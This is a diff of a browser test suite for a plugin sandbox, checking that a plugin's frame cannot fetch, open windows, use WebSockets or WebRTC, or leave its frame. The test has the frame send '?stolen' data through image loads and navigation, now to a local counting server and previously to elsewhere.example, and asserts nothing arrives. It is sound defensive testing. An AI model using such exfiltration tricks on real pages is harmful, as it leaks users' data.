@@ -1,4 +1,7 @@
 // A page of a plugin: it calls its plugin with the role of the user, and reaches nothing else from its frame.
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+
 import { expect, it } from "vitest";
 import type { Frame, Page } from "playwright-core";
 
@@ -33,6 +36,18 @@ const tried = (frame: Frame, code: string) =>
     }
   }, code);
 
+/** Another server on this machine, which counts its requests until it is closed. */
+async function listen(): Promise<{ address: string; close: () => Promise<number> }> {
+  let requests = 0;
+  const server = createServer((_, response) => {
+    requests += 1;
+    response.end();
+  });
+  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
+  const close = () => new Promise<number>((closed) => server.close(() => closed(requests)));
+  return { address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close };
+}
+
 it("calls its plugin with the role of the user, and each call is in the audit", async () => {
   await world.install("paged-agent");
   const { page } = await visit("/plugins");
@@ -61,15 +76,18 @@ it("has no origin, no cookies and no network, and can't leave its frame", async 
   expect(await tried(frame, "fetch('https://elsewhere.example/').then(({ status }) => status)")).toBe("TypeError");
   expect(await tried(frame, "window.open('https://elsewhere.example/')")).toBe("null");
   expect(await tried(frame, "new WebSocket('wss://elsewhere.example/').readyState")).not.toBe("1");
+  expect(await tried(frame, "typeof RTCPeerConnection")).toBe("undefined");
+  const elsewhere = await listen();
   const refused = page.waitForEvent("console", (message) => message.text().includes("frame-src"));
-  await frame.evaluate(() => {
-    new Image().src = "https://elsewhere.example/?stolen";
-    location.href = "https://elsewhere.example/?stolen";
-  });
+  await frame.evaluate((address) => {
+    new Image().src = `${address}/?stolen`;
+    location.href = `${address}/?stolen`;
+  }, elsewhere.address);
   await refused;
+  expect(await elsewhere.close()).toBe(0);
   expect(new URL(page.url()).pathname).toBe("/plugins");
   expect(made.complaints.filter((each) => !/Content Security Policy|sandboxed/.test(each))).toEqual([]);
-  made.complaints.length = 0; // the refusals of the browser are what this test wants
+  made.complaints.length = 0; // what the browser refused is what this test wants
 });
 
 it("is refused what it asks of the web interface beyond its calls, and more calls than it may make", async () => {
